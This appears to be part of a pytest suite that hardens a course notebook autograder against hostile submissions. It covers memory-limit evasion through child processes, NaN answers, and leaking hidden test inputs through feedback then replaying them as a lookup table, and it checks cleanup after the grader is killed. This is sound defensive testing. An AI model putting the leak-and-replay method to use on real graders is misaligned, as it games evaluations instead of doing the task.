    # scaled_dot_product_attention, is judged with course_lib's in its place (one mistake costs once)
    full = {t: get_spec(t.removeprefix("test_")).points for t in got}
    assert {t: v for t, v in got.items() if t != "test_scaled_dot_product_attention"} \
        == {t: v for t, v in full.items() if t != "test_scaled_dot_product_attention"}, got


def test_nan_answer_earns_nothing(hostile):
    scores = hostile["class"].scores("06_transformer")
    got, base = _points(scores, "h_nan"), _points(scores, "h_baseline_bleu")
    assert got["test_bleu"] <= base["test_bleu"], (got, base)


def test_a_notebooks_processes_share_its_memory_limit(hostile):
    """Three processes of 1.5 GB each under a 3 GB limit: each is under its own address-space
    limit, together they are not, and the notebook is stopped (its points kept: see
    test_attacker_gains_nothing)."""
    record = _report(hostile["course"], SYSTEM, "h_aggregate_memory")
    memory = [p["message"] for p in record["problems"] if p["kind"] == "memory"]
    assert memory and "3072 MB limit" in memory[0], record["problems"]
    nb = nbformat.read(str(_autograded_path(hostile["course"], SYSTEM, "h_aggregate_memory")), as_version=4)
    out = "".join(text(c) for c in nb.cells if c.cell_type == "code" and "AGGREGATE" in c.source)
    assert not re.search(r"AGGREGATE [2-9] children", out), out[-2000:]


def test_hidden_inputs_seen_in_feedback_earn_nothing_next_time(hostile):
    """Run last on the shared class: it hands in and grades a second notebook for h_exfil."""
    import io
    import zlib

    import torch
    from course_lib.attention import scaled_dot_product_attention as reference

    course = hostile["course"]
    page = html.unescape(_feedback_path(course, SYSTEM, "h_exfil").read_text())
    found = re.search(r"EXFIL ([A-Za-z0-9+/=]+)", page)
    assert found, "the recorded inputs are not in the feedback"
    seen = torch.load(io.BytesIO(zlib.decompress(base64.b64decode(found.group(1)))))
    table = {}
    hand = torch.tensor([[1.0, 0.0], [0.0, 2.0]])
    for q, k, v, mask in seen:
        if q.shape == hand.shape and torch.equal(q, hand):
            continue  # the notebook's own hand example: public, and its answer could be typed in anyway
        out, weights = reference(q, k, v, mask)
        table[_exfil_key(q, k, v, mask)] = (out.detach(), weights.detach())
    buffer = io.BytesIO()
    torch.save(table, buffer)
    blob = base64.b64encode(zlib.compress(buffer.getvalue(), 9)).decode()
    item, wrong = WRONG[SYSTEM]
    replay = EXFIL_REPLAY.replace("@MARK@", MARK).replace("@TABLE@", blob)
    nb = filled(SYSTEM, {item: wrong.rstrip("\n") + "\n\n" + replay})
    course.submit("h_exfil", SYSTEM, nb, register=False)
    course.workbook("autograde", SYSTEM, "--force", "-s", "h_exfil", *RUN_OPTIONS)
    again = _points(course.scores(SYSTEM), "h_exfil")
    base = _points(hostile["class"].scores(SYSTEM), "h_baseline")
    assert again[f"test_{item}"] <= base[f"test_{item}"], (again, base)


# ---------------------------------------------------------------------------
# Killing `workbook autograde` itself
# ---------------------------------------------------------------------------

KILL_A = "03_self_attention"


def _descendants(root: int) -> set[int]:
    parents = _parents()
    out, frontier = set(), {root}
    while frontier:
        frontier = {pid for pid, parent in parents.items() if parent in frontier} - out
        out |= frontier
    return out


def _alive(pids: set[int]) -> set[int]:
    alive = set()
    for pid in pids:
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        if not re.search(r"^State:\s+Z", status, re.M):
            alive.add(pid)
    return alive


def test_killing_autograde_keeps_what_was_graded_and_leaves_nothing_running():
    sol = _sol(KILL_A)
    submissions = {"k_correct": {}, "k_wrong_sdpa": {"scaled_dot_product_attention": WRONG[KILL_A][1]},
                   "k_stubs": None, "k_padding": {"padding_mask": sol["padding_mask"].replace("<", "<=")},
                   "k_correct_2": {}}
    course = Course([KILL_A])
    try:
        course.workbook("release", KILL_A)
        for student, cells in submissions.items():
            course.submit(student, KILL_A, filled(KILL_A, cells), register=False)
        reports = course.root / "grading" / "reports" / KILL_A
        cmd = [sys.executable, "-m", "autograder.cli", "--course", str(course.root), "autograde", KILL_A,
               "-j", "1", "--cell-timeout", "60", "--notebook-timeout", "300", "--quiet"]
        proc = subprocess.Popen(cmd, env=kernel_env(grading=False), stdout=subprocess.PIPE,
                                stderr=subprocess.STDOUT, start_new_session=True)
        tree: set[int] = set()
        deadline = time.monotonic() + 600
        while not list(reports.glob("*.json")):
            assert proc.poll() is None, proc.stdout.read().decode()
            assert time.monotonic() < deadline, "no report within 600 s"
            tree |= _descendants(proc.pid)
            time.sleep(0.05)
        tree |= _descendants(proc.pid)
        # the run's scratch folder (its jobs' copies of the students' files), which the kill leaves behind
        left = [p.parent for p in Path(tempfile.gettempdir()).glob(f"{SCRATCH_PREFIX}*/{OWNER_FILE}")
                if p.read_text().split()[0] == str(proc.pid)]
        assert len(left) == 1, left
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
        proc.stdout.close()
        killed_at = time.monotonic()
        # nothing of the grading survives its parent (a grace for the kernel to tear the
        # processes down, ample on a busy machine: the wait ends as soon as they are gone)
        while _alive(tree) and time.monotonic() - killed_at < 30:
            time.sleep(0.2)
        assert not _alive(tree), [Path(f"/proc/{p}/cmdline").read_bytes() for p in _alive(tree)]
        # the next job's sandbox may start between the last look at the tree and the kill: it
        # gets the same grace to be torn down (the CI run at 9633d8e saw one 0 s after)
        survivors = _survivors(wait=30, markers=(str(course.root),), mine=(str(course.root),))
        assert not survivors, f"a sandbox survived: {survivors}"
        # what was graded before the kill is complete: report, autograded notebook, gradebook row
        done = sorted(p.stem for p in reports.glob("*.json"))
        assert 1 <= len(done) < len(submissions), done
        scores = course.scores(KILL_A)
        kept = {}
        for student in done:
            record = json.loads((reports / f"{student}.json").read_text())["notebooks"][KILL_A]
            assert record["status"] == "graded"
            autograded = _autograded_path(course, KILL_A, student)
            assert autograded.is_file()
            assert scores[student]["code"] == record["score"], (student, scores[student], record["score"])
            kept[student] = (record, autograded.stat().st_mtime_ns, autograded.read_bytes())
        # the rerun grades only the rest
        course.workbook("autograde", KILL_A, "-j", "1", "--cell-timeout", "60", "--notebook-timeout", "300", "--quiet")
        assert not left[0].exists(), "the killed run's scratch folder is still there after the rerun"
        for student, (record, mtime, data) in kept.items():
            again = json.loads((reports / f"{student}.json").read_text())["notebooks"][KILL_A]
            assert again == record, f"{student} was graded again"
            autograded = _autograded_path(course, KILL_A, student)
            assert autograded.stat().st_mtime_ns == mtime and autograded.read_bytes() == data, student
        rest = set(submissions) - set(kept)
        for student in rest:
            record = json.loads((reports / f"{student}.json").read_text())["notebooks"][KILL_A]
            assert record["status"] == "graded" and _autograded_path(course, KILL_A, student).is_file(), student
        scores = course.scores(KILL_A)
        assert set(scores) == set(submissions)
        assert scores["k_correct"]["code"] == scores["k_correct_2"]["code"] == 13
        assert scores["k_stubs"]["code"] == 0
        assert not _survivors(wait=10, markers=(str(course.root),), mine=(str(course.root),))
    finally:
        course.close()
